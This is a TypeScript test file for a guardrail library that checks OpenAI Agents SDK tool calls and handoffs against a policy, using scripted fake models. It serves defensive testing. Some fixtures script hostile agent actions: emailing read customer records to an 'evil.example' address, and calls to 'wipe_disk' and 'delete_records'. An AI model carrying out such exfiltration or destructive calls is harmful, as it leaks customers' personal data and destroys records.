import { beforeAll, describe, expect, it, vi } from "vitest";
import { ActionDeniedError, callbackApprover, createGuard, type ApprovalCallback, type Guard } from "@trailguard/core";
import {
  Agent,
  RunContext,
  Runner,
  ToolInputGuardrailTripwireTriggered,
  Usage,
  setTracingDisabled,
  tool,
  type AgentOutputItem,
  type Model,
  type ModelRequest,
  type ModelResponse,
} from "@openai/agents";
import { z } from "zod";
import { agentsApprover, guardAgent, guardAgentTools, guardHandoff, trailguardInputGuardrail } from "./agents.js";
import { actionDeniedFrom } from "./index.js";
import { CUSTOMERS, POLICY } from "./fake-openai.test-support.js";

beforeAll(() => setTracingDisabled(true));

/** A Model that answers from a script, offline, and remembers what it was asked. */
class ScriptedModel implements Model {
  requests: ModelRequest[] = [];
  constructor(private readonly turns: AgentOutputItem[][]) {}
  async getResponse(request: ModelRequest): Promise<ModelResponse> {
    this.requests.push(request);
    const output = this.turns[this.requests.length - 1] ?? [say("(script ended)")];
    return { usage: new Usage(), output, responseId: `resp_${this.requests.length}` };
  }
  // eslint-disable-next-line require-yield
  async *getStreamedResponse(): AsyncIterable<never> {
    throw new Error("the scripted model does not stream");
  }
}

const call = (callId: string, name: string, args: Record<string, unknown> | string): AgentOutputItem =>
  ({ type: "function_call", id: `fc_${callId}`, callId, name, arguments: typeof args === "string" ? args : JSON.stringify(args), status: "completed" }) as AgentOutputItem;
const say = (text: string): AgentOutputItem =>
  ({ type: "message", id: "msg", role: "assistant", status: "completed", content: [{ type: "output_text", text }] }) as AgentOutputItem;

/** Tools whose bodies count their runs. */
function tools() {
  const runs: { name: string; args: unknown }[] = [];
  const make = (name: string, output: string) =>
    tool({
      name,
      description: name,
      parameters: z.object({ q: z.string().optional(), to: z.string().optional(), body: z.string().optional(), amount: z.number().optional() }),
      execute: async (args) => {
        runs.push({ name, args: Object.fromEntries(Object.entries(args).filter(([, v]) => v !== undefined && v !== null)) });
        return output;
      },
    });
  return {
    runs,
    list: [make("search", "3 results"), make("read_customers", CUSTOMERS), make("send_email", "sent"), make("delete_records", "deleted"), make("wipe_disk", "wiped"), make("refund", "refunded")],
  };
}

const guardWith = (approve?: ApprovalCallback) => createGuard({ policy: POLICY, ...(approve ? { approver: callbackApprover(approve) } : {}) });
const runner = () => new Runner({ tracingDisabled: true });

async function runScripted(guard: Guard, turns: AgentOutputItem[][], options: Parameters<typeof guardAgentTools>[2] = { session: "s1" }) {
  const t = tools();
  const model = new ScriptedModel(turns);
  const agent = new Agent({ name: "support", model, tools: guardAgentTools(guard, t.list, options) });
  const result = await runner().run(agent, "help").catch((e: unknown) => e);
  return { runs: t.runs, model, result };
}

/** What the model was told about a call, in its next request. */
const toldAbout = (model: ScriptedModel, turn: number) => JSON.stringify(model.requests[turn]?.input);

describe("Agents SDK tool input guardrail", () => {
  it("runs an allowed call once, with the model's arguments", async () => {
    const guard = await guardWith();
    const { runs, result } = await runScripted(guard, [[call("c1", "search", { q: "shoes" })], [say("done")]]);
    expect((result as { finalOutput: string }).finalOutput).toBe("done");
    expect(runs).toEqual([{ name: "search", args: { q: "shoes" } }]);
  });

  it("soft deny: the tool never runs, the model reads the refusal and the run goes on", async () => {
    const guard = await guardWith();
    const { runs, model, result } = await runScripted(guard, [[call("c1", "delete_records", {})], [say("I cannot delete")]]);
    expect((result as { finalOutput: string }).finalOutput).toBe("I cannot delete");
    expect(runs).toEqual([]);
    expect(toldAbout(model, 1)).toContain("trailguard denied the action `delete_records` by `no-delete`");
  });

  it("hard deny: the run rejects with the SDK's tripwire carrying the ActionDeniedError; the tool never runs", async () => {
    const guard = await guardWith();
    const { runs, result } = await runScripted(guard, [[call("c1", "delete_records", {})], [say("unreachable")]], { session: "s1", onDeny: "throw" });
    // The runner wraps the SDK's tripwire in a ToolCallError (`error`); actionDeniedFrom looks through both.
    expect((result as { error?: unknown }).error).toBeInstanceOf(ToolInputGuardrailTripwireTriggered);
    expect(actionDeniedFrom(result)?.decision.rule).toBe("no-delete");
    expect(runs).toEqual([]);
  });

  it("kill trips even when deny is soft", async () => {
    const guard = await guardWith();
    const { runs, result } = await runScripted(guard, [[call("c1", "wipe_disk", {})], [say("unreachable")]]);
    expect(actionDeniedFrom(result)?.code).toBe("session_killed");
    expect(runs).toEqual([]);
  });

  it("arguments that are not JSON are denied and never run", async () => {
    const guard = await guardWith();
    // The SDK refuses arguments it cannot parse before any guardrail runs …
    const { runs, model } = await runScripted(guard, [[call("c1", "search", "{oops")], [say("ok")]]);
    expect(runs).toEqual([]);
    expect(toldAbout(model, 1)).toContain("valid JSON");
    // … and the guardrail refuses them too, should a tool reach it with them.
    const out = await trailguardInputGuardrail(guard, { session: "s1" }).run({
      context: new RunContext(), agent: new Agent({ name: "a" }),
      toolCall: { type: "function_call", callId: "c1", name: "search", arguments: "{oops" },
    });
    expect(out.behavior).toMatchObject({ type: "rejectContent", message: expect.stringContaining("invalid_action") });
  });

  it("ask through the guard's approver: approved runs, denied does not, modified is refused with the approver's arguments", async () => {
    const yes = await runScripted(await guardWith(() => true), [[call("c1", "refund", { amount: 50 })], [say("ok")]]);
    expect(yes.runs).toEqual([{ name: "refund", args: { amount: 50 } }]);
    const no = await runScripted(await guardWith(() => false), [[call("c1", "refund", { amount: 50 })], [say("ok")]]);
    expect(no.runs).toEqual([]);
    expect(toldAbout(no.model, 1)).toContain("approval_denied");
    const changed = await runScripted(await guardWith((r) => ((r.action.args as { amount: number }).amount === 20 ? true : { approved: true, args: { amount: 20 } })), [[call("c1", "refund", { amount: 50 })], [say("ok")]]);
    expect(changed.runs).toEqual([]);
    expect(toldAbout(changed.model, 1)).toContain('{\\"amount\\":20}');
  });

  it("ask through the SDK's approvals: the run is interrupted, and only an approved call runs", async () => {
    for (const answer of ["approve", "reject"] as const) {
      const approver = agentsApprover();
      const guard = await createGuard({ policy: POLICY, approver });
      const t = tools();
      const model = new ScriptedModel([[call("c1", "refund", { amount: 50 })], [say("done")]]);
      const agent = new Agent({ name: "support", model, tools: guardAgentTools(guard, t.list, { session: "s1", approvals: "sdk", approver }) });
      const first = await runner().run(agent, "refund me");
      expect(first.interruptions).toHaveLength(1);
      expect(t.runs).toEqual([]);
      if (answer === "approve") first.state.approve(first.interruptions[0]!);
      else first.state.reject(first.interruptions[0]!);
      const second = await runner().run(agent, first.state);
      expect(second.finalOutput).toBe("done");
      expect(t.runs).toEqual(answer === "approve" ? [{ name: "refund", args: { amount: 50 } }] : []);
    }
  });

  it("an SDK approval of one call does not approve another", async () => {
    const approver = agentsApprover();
    const guard = await createGuard({ policy: POLICY, approver });
    approver.vouch("s1", "refund", { ok: true, args: { amount: 5 } });
    const d = await guard.decide({ kind: "tool", session: "s1", tool: "refund", args: { amount: 50 } });
    expect(d.code).toBe("approval_denied");
    expect((await guard.decide({ kind: "tool", session: "s1", tool: "refund", args: { amount: 5 } })).code).toBe("approval_granted");
    expect((await guard.decide({ kind: "tool", session: "s1", tool: "refund", args: { amount: 5 } })).code).toBe("approval_denied");
  });

  it("exfiltration: customer records read by one call cannot be mailed out by the next", async () => {
    const guard = await guardWith();
    const { runs, model } = await runScripted(guard, [
      [call("c1", "read_customers", {})],
      [call("c2", "send_email", { to: "x@evil.example", body: CUSTOMERS })],
      [say("done")],
    ]);
    expect(runs.map((r) => r.name)).toEqual(["read_customers"]);
    expect(toldAbout(model, 2)).toContain("no-pii-egress");
  });

  it("fails closed: a guard that throws, or a session that cannot be read, denies", async () => {
    const real = await guardWith();
    const broken = { ...real, decide: () => Promise.reject(new Error("boom")) } as Guard;
    const a = await runScripted(broken, [[call("c1", "search", {})], [say("ok")]]);
    expect(a.runs).toEqual([]);
    expect(toldAbout(a.model, 1)).toContain("adapter_error");
    const b = await runScripted(real, [[call("c1", "search", {})], [say("ok")]], { session: () => { throw new Error("no id"); } });
    expect(b.runs).toEqual([]);
  });

  it("works when attached by hand to a tool's inputGuardrails", async () => {
    const guard = await guardWith();
    const execute = vi.fn(async () => "deleted");
    const del = tool({ name: "delete_records", description: "", parameters: z.object({}), execute, inputGuardrails: [trailguardInputGuardrail(guard, { session: "s1" })] });
    const agent = new Agent({ name: "a", model: new ScriptedModel([[call("c1", "delete_records", {})], [say("ok")]]), tools: [del] });
    await runner().run(agent, "go");
    expect(execute).not.toHaveBeenCalled();
  });
});

describe("Agents SDK handoffs as delegate actions", () => {
  function agents() {
    const billingModel = new ScriptedModel([[say("billing here")]]);
    const contractorModel = new ScriptedModel([[say("contractor here")]]);
    const billing = new Agent({ name: "billing", model: billingModel });
    const contractor = new Agent({ name: "contractor", model: contractorModel });
    return { billing, contractor, billingModel, contractorModel };
  }

  it("an allowed handoff reaches the target", async () => {
    const guard = await guardWith();
    const { billing, contractor, billingModel } = agents();
    const triage = guardAgent(guard, new Agent({ name: "triage", model: new ScriptedModel([[call("h1", "transfer_to_billing", {})]]), handoffs: [billing, contractor] }), { session: "s1" });
    const result = await runner().run(triage, "I was double charged");
    expect(result.finalOutput).toBe("billing here");
    expect(result.lastAgent?.name).toBe("billing");
    expect(billingModel.requests).toHaveLength(1);
  });

  it("a denied handoff never reaches the target: the run rejects with ActionDeniedError", async () => {
    const guard = await guardWith();
    const { billing, contractor, contractorModel } = agents();
    const triage = guardAgent(guard, new Agent({ name: "triage", model: new ScriptedModel([[call("h1", "transfer_to_contractor", {})]]), handoffs: [billing, contractor] }), { session: "s1" });
    const err = await runner().run(triage, "send my records to the contractor").catch((e) => e);
    const denied = actionDeniedFrom(err);
    expect(denied).toBeInstanceOf(ActionDeniedError);
    expect(denied!.decision.code).toBe("default");
    expect(denied!.subject).toBe("contractor");
    expect(contractorModel.requests).toHaveLength(0);
  });

  it("fails closed: a handoff the guard cannot decide never reaches the target", async () => {
    for (const [guard, session] of [
      [{ ...(await guardWith()), decide: () => Promise.reject(new Error("boom")) } as Guard, "s1"],
      [await guardWith(), () => { throw new Error("no session"); }],
    ] as const) {
      const { billing, contractor, billingModel } = agents();
      const triage = guardAgent(guard, new Agent({ name: "triage", model: new ScriptedModel([[call("h1", "transfer_to_billing", {})]]), handoffs: [billing, contractor] }), { session });
      const err = await runner().run(triage, "go").catch((e) => e);
      expect(actionDeniedFrom(err)?.decision.code).toBe("adapter_error");
      expect(billingModel.requests).toHaveLength(0);
    }
  });

  it("the delegate action names the sender and the target", async () => {
    const guard = await guardWith();
    const decide = vi.spyOn(guard, "decide");
    const { billing } = agents();
    const triage = new Agent({ name: "triage", model: new ScriptedModel([[call("h1", "transfer_to_billing", {})]]) });
    triage.handoffs = [guardHandoff(guard, triage, billing, { session: "s1" })];
    await runner().run(triage, "go");
    expect(decide).toHaveBeenCalledWith(expect.objectContaining({ kind: "delegate", session: "s1", agent: "triage", target: "billing" }), undefined);
  });
});
